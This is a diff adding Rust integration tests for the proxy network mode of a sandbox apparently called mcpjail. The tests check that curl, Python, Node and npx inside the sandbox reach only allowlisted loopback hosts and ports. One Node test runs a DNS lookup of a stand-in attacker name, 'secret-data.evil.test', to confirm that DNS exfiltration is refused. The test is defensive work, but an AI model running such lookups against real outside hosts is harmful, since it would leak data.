@@ -1,0 +1,344 @@
+//! Network mode `proxy`, with real servers on the host's loopback and real clients inside the
+//! sandbox (curl, Python urllib and httpx, Node's fetch, npm).
+//!
+//! The names `allowed.mcpjail.test` and `other.mcpjail.test` must resolve to 127.0.0.1 on
+//! the host (`tests/run.sh` adds them to /etc/hosts); the test profiles allow 127.0.0.0/8
+//! explicitly, and one test proves the same name is refused without that.
+
+mod common;
+
+use std::io::{BufRead, BufReader, Write};
+use std::net::{TcpListener, TcpStream, ToSocketAddrs, UdpSocket};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use common::*;
+
+const ALLOWED: &str = "allowed.mcpjail.test";
+const OTHER: &str = "other.mcpjail.test";
+const T: Duration = Duration::from_secs(60);
+
+fn names_resolve() -> bool {
+    let ok = |n: &str| {
+        (n, 80)
+            .to_socket_addrs()
+            .map(|mut a| a.any(|s| s.ip().is_loopback()))
+            .unwrap_or(false)
+    };
+    require(ok(ALLOWED) && ok(OTHER), "/etc/hosts entries for allowed.mcpjail.test and other.mcpjail.test (tests/run.sh adds them)")
+}
+
+/// A plain HTTP server on the host's loopback that records every request line.
+struct HttpServer {
+    port: u16,
+    seen: Arc<Mutex<Vec<String>>>,
+}
+
+impl HttpServer {
+    fn start() -> HttpServer {
+        let l = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = l.local_addr().unwrap().port();
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let s2 = Arc::clone(&seen);
+        std::thread::spawn(move || {
+            for c in l.incoming() {
+                let Ok(mut c) = c else { continue };
+                let s3 = Arc::clone(&s2);
+                std::thread::spawn(move || {
+                    let mut r = BufReader::new(c.try_clone().unwrap());
+                    let mut line = String::new();
+                    let _ = r.read_line(&mut line);
+                    loop {
+                        let mut h = String::new();
+                        if r.read_line(&mut h).unwrap_or(0) == 0 || h == "\r\n" {
+                            break;
+                        }
+                        if h.to_ascii_lowercase().starts_with("host:") {
+                            line.push_str(&format!(" [{}]", h.trim()));
+                        }
+                    }
+                    s3.lock().unwrap().push(line.trim().to_string());
+                    let body = "hello from the host\n";
+                    let _ = write!(c, "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len());
+                });
+            }
+        });
+        HttpServer { port, seen }
+    }
+
+    fn requests(&self) -> Vec<String> {
+        self.seen.lock().unwrap().clone()
+    }
+}
+
+/// A TLS server with a self-signed certificate for allowed.mcpjail.test (python3 + openssl).
+struct TlsServer {
+    port: u16,
+    cert: PathBuf,
+    child: Child,
+}
+
+impl TlsServer {
+    fn start(dir: &Path) -> TlsServer {
+        let cert = dir.join("cert.pem");
+        let key = dir.join("key.pem");
+        let st = Command::new("openssl")
+            .args(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", &format!("/CN={ALLOWED}")])
+            .args(["-addext", &format!("subjectAltName=DNS:{ALLOWED}")])
+            .arg("-keyout")
+            .arg(&key)
+            .arg("-out")
+            .arg(&cert)
+            .stderr(Stdio::null())
+            .status()
+            .expect("openssl");
+        assert!(st.success());
+        let script = r#"
+import http.server, ssl, sys
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        body = b"hello over tls\n"
+        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
+    def log_message(self, *a): pass
+s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(sys.argv[1], sys.argv[2])
+s.socket = ctx.wrap_socket(s.socket, server_side=True)
+print(s.server_address[1], flush=True)
+s.serve_forever()
+"#;
+        let mut child = Command::new("python3")
+            .args(["-c", script])
+            .arg(&cert)
+            .arg(&key)
+            .stdout(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut line = String::new();
+        BufReader::new(child.stdout.as_mut().unwrap()).read_line(&mut line).unwrap();
+        TlsServer {
+            port: line.trim().parse().unwrap(),
+            cert,
+            child,
+        }
+    }
+}
+
+impl Drop for TlsServer {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+struct Setup {
+    dir: tempfile::TempDir,
+    http: HttpServer,
+    tls: TlsServer,
+    profile: PathBuf,
+}
+
+fn setup(base: &str, allow_private: bool) -> Setup {
+    let dir = scratch();
+    let http = HttpServer::start();
+    let tls = TlsServer::start(dir.path());
+    std::fs::set_permissions(dir.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    let private = if allow_private { "  allow_private: [127.0.0.0/8]\n" } else { "" };
+    let profile = profile(
+        dir.path(),
+        "proxied",
+        &format!(
+            "extends: [{base}]\nfilesystem:\n  read: [\"{}\"]\nnetwork:\n  mode: proxy\n  allow: [\"{ALLOWED}:{}\", \"{ALLOWED}:{}\"]\n{private}",
+            dir.path().display(),
+            http.port,
+            tls.port
+        ),
+    );
+    Setup { dir, http, tls, profile }
+}
+
+/// Runs `args` in the sandbox with the setup's profile; returns (code, stdout, stderr).
+fn inside(s: &Setup, args: &[&str]) -> (i32, String, String) {
+    let mut all = vec!["-p", s.profile.to_str().unwrap(), "--log-level", "info", "--"];
+    all.extend_from_slice(args);
+    let mut c = run_cmd(&all);
+    c.env("XDG_STATE_HOME", s.dir.path().join("state"));
+    let out = output_within(c, T);
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+#[test]
+fn curl_through_the_proxy_reaches_only_allowed_hosts_and_ports() {
+    if !names_resolve() {
+        return;
+    }
+    let s = setup("default", true);
+    let url = format!("http://{ALLOWED}:{}/via-proxy", s.http.port);
+    let (code, out, err) = inside(&s, &["curl", "-sS", &url]);
+    assert_eq!((code, out.as_str()), (0, "hello from the host\n"), "{err}");
+    assert!(err.contains(&format!("proxy: connected to {ALLOWED}:{}", s.http.port)), "{err}");
+
+    // TLS passes through untouched: curl verifies the host server's own certificate.
+    let tls_url = format!("https://{ALLOWED}:{}/", s.tls.port);
+    let (code, out, err) = inside(&s, &["curl", "-sS", "--cacert", s.tls.cert.to_str().unwrap(), &tls_url]);
+    assert_eq!((code, out.as_str()), (0, "hello over tls\n"), "{err}");
+
+    // SOCKS5 with remote name resolution.
+    let socks = format!("http://{ALLOWED}:{}/via-socks", s.http.port);
+    let (code, out, err) = inside(&s, &["sh", "-c", &format!("curl -sS --proxy \"$ALL_PROXY\" {socks}")]);
+    assert_eq!((code, out.as_str()), (0, "hello from the host\n"), "{err}");
+
+    // Another name for the same address, another port, and a direct IP are refused.
+    let other = format!("http://{OTHER}:{}/refused", s.http.port);
+    let (code, _, err) = inside(&s, &["curl", "-sS", "-f", &other]);
+    assert_ne!(code, 0);
+    assert!(err.contains(&format!("proxy: refused {OTHER}:{}: not in network.allow", s.http.port)), "{err}");
+    let wrong_port = format!("http://{ALLOWED}:{}/", s.tls.port + 1);
+    let (code, _, err) = inside(&s, &["curl", "-sS", "-f", &wrong_port]);
+    assert_ne!(code, 0);
+    assert!(err.contains("not in network.allow"), "{err}");
+    let direct = format!("http://127.0.0.1:{}/direct", s.http.port);
+    let (code, _, _) = inside(&s, &["curl", "-sS", "-f", "--noproxy", "*", &direct]);
+    assert_ne!(code, 0);
+    let seen = s.http.requests();
+    assert!(seen.iter().all(|r| !r.contains("refused") && !r.contains("direct")), "{seen:?}");
+    assert_eq!(seen.iter().filter(|r| r.contains("/via-")).count(), 2, "{seen:?}");
+}
+
+#[test]
+fn clients_that_ignore_proxy_variables_still_reach_allowed_names() {
+    if !names_resolve() {
+        return;
+    }
+    let s = setup("node", true);
+    let url = format!("http://{ALLOWED}:{}/transparent-curl", s.http.port);
+    let (code, out, err) = inside(&s, &["curl", "-sS", "--noproxy", "*", &url]);
+    assert_eq!((code, out.as_str()), (0, "hello from the host\n"), "{err}");
+
+    // Node 20's built-in fetch ignores HTTP_PROXY; it resolves through the sandbox's DNS.
+    let script = format!(
+        "fetch('http://{ALLOWED}:{}/transparent-node').then(r => r.text()).then(t => process.stdout.write(t)).catch(e => {{ console.log('ERR', e.cause && e.cause.code); process.exit(1) }})",
+        s.http.port
+    );
+    let (code, out, err) = inside(&s, &["node", "-e", &script]);
+    assert_eq!((code, out.as_str()), (0, "hello from the host\n"), "{err}");
+    let tls_script = format!(
+        "fetch('https://{ALLOWED}:{}/').then(r => r.text()).then(t => process.stdout.write(t)).catch(e => {{ console.log('ERR', e.cause && e.cause.code); process.exit(1) }})",
+        s.tls.port
+    );
+    let mut all = vec!["-p", s.profile.to_str().unwrap(), "--set-env"];
+    let extra = format!("NODE_EXTRA_CA_CERTS={}", s.tls.cert.display());
+    all.push(&extra);
+    all.extend_from_slice(&["--", "node", "-e", &tls_script]);
+    let out = output_within(run_cmd(&all), T);
+    assert_eq!(String::from_utf8_lossy(&out.stdout), "hello over tls\n", "{}", String::from_utf8_lossy(&out.stderr));
+
+    // A name that is not allowed does not even resolve, so DNS cannot carry data out.
+    let (code, out, err) = inside(&s, &["node", "-e", "require('dns').lookup('secret-data.evil.test', (e) => { console.log(e ? e.code : 'resolved'); })"]);
+    assert_eq!((code, out.trim()), (0, "ENOTFOUND"), "{err}");
+    assert!(err.contains("refused DNS lookup of secret-data.evil.test"), "{err}");
+    let seen = s.http.requests();
+    assert!(seen.iter().any(|r| r.contains("/transparent-curl")) && seen.iter().any(|r| r.contains("/transparent-node")), "{seen:?}");
+}
+
+#[test]
+fn python_clients_use_the_proxy() {
+    if !names_resolve() {
+        return;
+    }
+    let s = setup("python", true);
+    let url = format!("http://{ALLOWED}:{}/urllib", s.http.port);
+    let (code, out, err) = inside(&s, &["python3", "-c", &format!("import urllib.request; print(urllib.request.urlopen('{url}').read().decode(), end='')")]);
+    assert_eq!((code, out.as_str()), (0, "hello from the host\n"), "{err}");
+    let other = format!("http://{OTHER}:{}/urllib", s.http.port);
+    let (code, out, _) = inside(
+        &s,
+        &["python3", "-c", &format!("import urllib.request\ntry:\n urllib.request.urlopen('{other}')\nexcept Exception as e:\n print('refused', getattr(e, 'code', e))")],
+    );
+    assert_eq!((code, out.trim()), (0, "refused 403"));
+
+    let venv = venv().join("bin/python");
+    if require(venv.exists(), "the integration Python environment with httpx (.ci/run installs it)") {
+        let venv = venv.to_str().unwrap();
+        let code_src = format!("import httpx; print(httpx.get('https://{ALLOWED}:{}/', verify='{}').text, end='')", s.tls.port, s.tls.cert.display());
+        let (code, out, err) = inside(&s, &[venv, "-c", &code_src]);
+        assert_eq!((code, out.as_str()), (0, "hello over tls\n"), "{err}");
+    }
+}
+
+#[test]
+fn private_addresses_need_allow_private() {
+    if !names_resolve() {
+        return;
+    }
+    let s = setup("default", false);
+    let url = format!("http://{ALLOWED}:{}/rebinding", s.http.port);
+    let (code, _, err) = inside(&s, &["curl", "-sS", "-f", &url]);
+    assert_ne!(code, 0);
+    assert!(
+        err.contains(&format!("proxy: refused {ALLOWED}:{}: resolves to the non-public address 127.0.0.1, which network.allow_private does not cover", s.http.port)),
+        "{err}"
+    );
+    assert!(s.http.requests().is_empty());
+}
+
+#[test]
+fn udp_and_other_traffic_has_no_route() {
+    if !names_resolve() {
+        return;
+    }
+    let s = setup("default", true);
+    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
+    udp.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
+    let p = probe();
+    let port = udp.local_addr().unwrap().port().to_string();
+    let (_, out, _) = inside(&s, &[p.to_str().unwrap(), "udp", "10.255.255.53", "53", "x"]);
+    assert!(out.starts_with("ERR "), "{out}");
+    let _ = inside(&s, &[p.to_str().unwrap(), "udp", "127.0.0.1", &port, "x"]);
+    let mut b = [0u8; 8];
+    assert!(udp.recv_from(&mut b).is_err(), "a datagram reached the host");
+    // The proxy listens only inside the sandbox's namespace.
+    let tcp = std::fs::read_to_string("/proc/net/tcp").unwrap();
+    assert!(!tcp.lines().any(|l| l.contains(":0C38 ") && l.contains(" 0A ")), "something listens on the host's port 3128");
+    let _ = TcpStream::connect_timeout(&"127.0.0.1:3128".parse().unwrap(), Duration::from_millis(200)).map(|_| panic!("the proxy answered on the host"));
+}
+
+#[test]
+fn a_summary_is_logged_at_exit() {
+    if !names_resolve() {
+        return;
+    }
+    let s = setup("default", true);
+    let url = format!("http://{ALLOWED}:{}/", s.http.port);
+    let other = format!("http://{OTHER}:{}/", s.http.port);
+    let (_, _, err) = inside(&s, &["sh", "-c", &format!("curl -s {url} >/dev/null; curl -s {other} >/dev/null; curl -s {other} >/dev/null")]);
+    assert!(err.contains(&format!("proxy summary: allowed {ALLOWED}:{}: 1 connection", s.http.port)), "{err}");
+    assert!(err.contains(&format!("proxy summary: refused {OTHER}:{}: 2 attempts (not in network.allow)", s.http.port)), "{err}");
+}
+
+#[test]
+fn npx_downloads_through_the_proxy() {
+    // The npm registry is the one place this machine may reach; a test that needs it says so.
+    if !require(("registry.npmjs.org", 443).to_socket_addrs().is_ok(), "the npm registry (DNS)") {
+        return;
+    }
+    let dir = scratch();
+    let prof = profile(dir.path(), "npx", "extends: [node]\nnetwork:\n  mode: proxy\n  allow: [registry.npmjs.org]\n");
+    let mut c = run_cmd(&["-p", prof.to_str().unwrap(), "--", "npx", "-y", "cowsay@1.6.0", "sandboxed"]);
+    // A fresh state directory: the package really is downloaded.
+    c.env("XDG_STATE_HOME", dir.path().join("state"));
+    for k in ["NODE_EXTRA_CA_CERTS", "SSL_CERT_FILE"] {
+        if let Ok(v) = std::env::var(k) {
+            c.env(k, v);
+        }
+    }
+    let out = output_within(c, Duration::from_secs(180));
+    let o = String::from_utf8_lossy(&out.stdout);
+    assert!(o.contains("< sandboxed >"), "stdout: {o}\nstderr: {}", String::from_utf8_lossy(&out.stderr));
+    assert!(dir.path().join("state/mcpjail/npx/npm-cache/_npx").is_dir());
+}
